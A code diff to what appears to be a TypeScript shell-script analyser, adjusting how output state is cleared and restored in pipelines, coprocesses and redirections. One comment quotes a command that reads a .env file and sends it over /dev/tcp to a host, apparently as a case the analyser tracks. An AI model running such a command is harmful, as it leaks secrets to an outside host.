@@ -137,6 +137,7 @@ function runPipeline(place: Place, state: State, node: Pipeline): Outcome {
     const stage = inShell ? state : forkState(state);
     const { input } = stage;
     if (piped !== undefined) stage.input = { stdin: piped };
+    if (!last) stage.output = undefined;
     const apart = inShell ? place : { ...forked(place), loop: undefined, routine: undefined };
     outcome = runNode({ ...apart, wanted: place.wanted || !last }, stage, command);
     stage.input = input;
@@ -244,6 +245,7 @@ function define(place: Place, state: State, node: FunctionNode): Outcome {
 function runCoproc(place: Place, state: State, node: Coproc): Outcome {
   const inner = forkState(state);
   inner.input = { stdin: { kind: "unknown", reason: "comes from a pipe" } };
+  inner.output = undefined;
   const apart = { ...forked(place), wanted: true, loop: undefined, routine: undefined };
   const { output, origin = "comes from a coprocess" } = runNode(apart, inner, node.body);
   runTraps(place, inner, true);
@@ -265,11 +267,13 @@ function runRedirected(place: Place, state: State, node: Redirected): Outcome {
   const mark = calls.length;
   emitBare(place, state, plumbing, spanOf(place, node));
   const bare = calls[mark];
-  const { input } = state;
+  const { input, output } = state;
   if (plumbing.stdin !== undefined) state.input = { stdin: plumbing.stdin };
+  if (plumbing.sink !== undefined) state.output = undefined;
   const wanted = place.wanted || plumbing.sink !== undefined;
   const outcome = runNode({ ...place, wanted }, state, node.command);
   state.input = input;
+  if (plumbing.sink !== undefined) state.output = output;
   closeDescriptors(state, plumbing.before);
   place.run.substitutions = substitutions;
   // `{ cat .env; date; } > /dev/tcp/host/port`: what went through is known only now.
